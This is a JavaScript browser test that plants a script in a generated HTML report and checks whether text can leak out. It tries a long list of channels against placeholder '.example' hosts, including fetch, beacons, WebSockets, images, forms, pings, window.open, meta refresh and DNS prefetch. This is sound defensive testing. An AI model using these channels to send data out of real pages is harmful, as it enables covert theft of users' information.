/**
 * What a script inside a report could do. No script gets into a report (hostile.mjs), so this test puts one there. It
 * tries each way in which text could leave the page; ways that the browser cannot prevent are listed here and in
 * SECURITY.md.
 */
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { settled } from "./actions.mjs";
import { check } from "./record.mjs";
import { makeReport } from "./reports.mjs";
import { writeCorpus } from "./texts.mjs";

export const browsers = ["chromium", "firefox"];

/** Each way runs in the page, with a foreign address. */
const ways = {
  "a request": (to) => fetch(to).catch(() => {}),
  "an old request": (to) => {
    const request = new XMLHttpRequest();
    request.open("GET", to);
    request.send();
  },
  "a beacon": (to) => void navigator.sendBeacon(to, "text"),
  "a socket": (to) => void new WebSocket(to.replace("http", "ws")),
  "a stream": (to) => void new EventSource(to),
  "a picture": (to) => void (new Image().src = to),
  "a style": (to) => {
    document.body.style.background = `url(${to})`;
  },
  "an element of another page": (to) => {
    for (const [name, key] of Object.entries({
      iframe: "src",
      embed: "src",
      object: "data",
      video: "src",
      link: "href",
      script: "src",
    })) {
      const element = document.createElement(name);
      if (name === "link") element.rel = "stylesheet";
      element[key] = to;
      document.body.append(element);
    }
  },
  "a worker": (to) => void new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to)})`]))),
  "a form": (to) => {
    const form = document.createElement("form");
    form.action = to;
    document.body.append(form);
    form.submit();
  },
  "a ping": (to) => {
    const link = Object.assign(document.createElement("a"), { href: "#", ping: to });
    link.click();
  },
  "a window": (to) => void window.open(to),
  "a window in this one's place": (to) => void window.open(to, "_self"),
  "a window that is put back": (to) => {
    Reflect.deleteProperty(window, "open");
    window.open(to);
  },
};

/** Ways that can be stopped only by an event of the interface Navigation, which older browsers lack. */
const navigations = {
  "an address": (to) => void (location.href = to),
  "an address in place of this one": (to) => location.replace(to),
  "a link": (to) => Object.assign(document.createElement("a"), { href: to }).click(),
  "a download": (to) => Object.assign(document.createElement("a"), { href: to, download: "x" }).click(),
  "an order to go on": (to) => {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = `0;url=${to}`;
    document.head.append(meta);
  },
};

/** Ways that a page without a server cannot prevent. */
const open = {
  "a window of a frame": (to) => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    frame.contentWindow.open(to);
  },
  "a link to a new window": (to) => Object.assign(document.createElement("a"), { href: to, target: "_blank" }).click(),
  "a file of its own that is opened in its place": (to) => {
    const text = `<meta http-equiv="refresh" content="0;url=${to}">`;
    const link = document.createElement("a");
    link.href = URL.createObjectURL(new Blob([text], { type: "text/html" }));
    link.download = "x.html";
    link.click();
    link.removeAttribute("download");
    link.click();
  },
  "a name that is looked up": (to) => {
    for (const rel of ["dns-prefetch", "preconnect", "prefetch"])
      document.head.append(Object.assign(document.createElement("link"), { rel, href: to }));
  },
};

export async function run({ browser, proxy, folder }) {
  const files = writeCorpus(folder, {
    references: [["a b c d", "e f g h"]],
    systems: [{ name: "a", hypotheses: ["a b c x", "e f g h"] }],
    source: ["a", "b"],
    labels: ["x", "y"],
  });
  const report = pathToFileURL(makeReport(join(folder, "leaving.html"), files)).href;
  const leavesBy = async (name, way) => {
    const page = await browser.newPage();
    await page.goto(report);
    await settled(page);
    const host = `${name.replaceAll(/\W/g, "-")}.example`;
    // the page may be gone before it can answer
    await page.evaluate(way, `http://${host}/?text`).catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 500));
    const isThere = await page.evaluate(() => document.querySelector("#ranking") !== null).catch(() => false);
    const hasNavigation = await page.evaluate(() => "navigation" in globalThis).catch(() => undefined);
    await page.close();
    return { isGone: !isThere || proxy.requested.some((url) => url.includes(host)), hasNavigation };
  };
  for (const [name, way] of Object.entries(ways))
    check(`text does not leave by ${name}`, !(await leavesBy(name, way)).isGone);
  const stops = (await leavesBy("nothing", () => {})).hasNavigation;
  for (const [name, way] of Object.entries(navigations)) {
    const { isGone } = await leavesBy(name, way);
    if (stops) check(`text does not leave by ${name}`, !isGone);
    else console.log(`     ${browser.name} is too old to stop ${name}: text ${isGone ? "leaves" : "does not leave"}`);
  }
  for (const [name, way] of Object.entries(open))
    console.log(
      `     text ${(await leavesBy(name, way)).isGone ? "leaves" : "does not leave"} by ${name}, which is not stopped`,
    );
}
